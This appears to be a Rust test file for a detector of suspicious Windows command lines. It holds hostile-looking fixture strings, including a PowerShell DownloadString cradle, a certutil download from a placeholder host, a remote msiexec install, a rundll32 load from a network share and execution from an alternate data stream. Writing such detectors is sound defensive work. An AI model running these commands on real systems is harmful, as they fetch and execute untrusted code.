use super::*;

#[test]
fn commands() {
    let suspicious = [
        r"cmd.exe /c calc",
        r"C:\Windows\System32\cmd.exe  /c  calc",
        "cmd/c calc",
        "cmd.exe /r calc",
        "%COMSPEC% /c calc",
        "'cmd.exe /c calc'",
        "conhost.exe --headless calc",
        "powershell -enc AAAA",
        r"C:\Users\bob\AppData\Roaming\u.exe",
        r"C:/Users/Public/x.exe",
        r"C:\\Users\\Public\\x.exe",
        r"C:\PerfLogs\u.exe",
        r"C:\ProgramData\u.exe",
        r"%TEMP%\u.exe",
        r"\\10.0.0.9\s\u.exe",
        "msiexec /q /i http://10.0.0.9/a.msi",
        r"rundll32.exe C:\ProgramData\x.dll,Start",
        r#""C:\Users\Public\a b.exe" -x"#,
        r"C:\t\a.txt:evil.exe",
    ];
    for line in suspicious {
        assert!(is_suspicious(line), "{line}");
        assert!(!is_protected(line), "{line}");
    }
    let others = [
        "",
        "calc",
        "notepad.exe C:\\Users\\a\\x.txt",
        r"cmd.exe /c C:\app\start.bat",
        r#""C:\Program Files\App\app.exe" /run"#,
        r"msiexec /i C:\ccm\a.msi",
    ];
    for line in others {
        assert!(!is_suspicious(line), "{line}");
    }
    assert!(is_protected(r#""C:\Program Files\App\app.exe" /run"#));
    assert!(is_protected(r"%ProgramFiles%\My App\app.exe /run"));
    assert!(is_protected(r"C:/Program Files/My App/app.exe /run"));
    assert!(!is_protected(
        r"C:\Program Files\..\Users\Public\app.exe /run"
    ));
    assert!(is_protected(
        r#"cmd /c "C:\Windows\System32\gpupdate.exe" /force"#
    ));
    assert!(!is_protected("calc") && !is_protected("") && !is_protected(r"C:\x.exe"));
}

#[test]
fn streams() {
    for line in [
        r"C:\t\a.txt:evil.exe",
        r#""C:\my files\a.txt:evil.exe" -x"#,
        r"C:\my files\a.txt:evil.exe",
        r"cmd /c C:\t\a.txt:b",
    ] {
        assert!(runs_stream(line), "{line}");
    }
    for line in [
        "",
        "calc",
        r"C:\a.exe http://x:80/a",
        r"C:\a.exe -t 10:30",
        "a:b",
    ] {
        assert!(!runs_stream(line), "{line}");
    }
}

#[test]
fn lines_that_hide_or_download() {
    for (line, expected) in [
        (
            "certutil -urlcache -split -f http://a.example/b c.exe",
            true,
        ),
        (
            r"C:\Windows\System32\certutil.exe /decode a.txt b.exe",
            true,
        ),
        ("cmd.exe /c certutil -encode a b & b.exe", true),
        ("certutil -hashfile a.exe SHA256", false),
        ("certutil", false),
        ("powershell -w hidden -c Get-Date", true),
        ("powershell -enc RwBlAHQALQBEAGEAdABlAA==", true),
        (
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example')\"",
            true,
        ),
        ("powershell -c Get-Date", false),
        (r"rundll32.exe \\10.0.0.9\share\a.dll,Start", true),
        ("rundll32.exe shell32.dll,Control_RunDLL", false),
        ("ipconfig /all", false),
        ("", false),
    ] {
        assert_eq!(hides_or_downloads(line), expected, "{line}");
    }
}

#[test]
fn lines_that_name_other_code() {
    for (line, expected) in [
        (r"regsvr32 /s C:\Users\Public\a.dll", true),
        (r"wscript C:\ProgramData\a.vbs", true),
        (r"rundll32 \\10.0.0.9\share\a.dll,Start", true),
        (r"notepad C:\Users\Public\a.txt", false),
        (r"regsvr32 /s C:\Windows\System32\a.dll", false),
        ("regsvr32", false),
    ] {
        assert_eq!(names_other_code(line), expected, "{line}");
    }
}

#[test]
fn executable_files() {
    for (path, expected) in [
        (r"C:\inetpub\wwwroot\a.aspx", true),
        (r"C:\inetpub\wwwroot\a.aspx.", true),
        (r"C:\inetpub\wwwroot\a.aspx. .", true),
        (r"C:\Logs\a.log", false),
        ("", false),
    ] {
        assert_eq!(is_executable_file(path), expected, "{path}");
    }
}
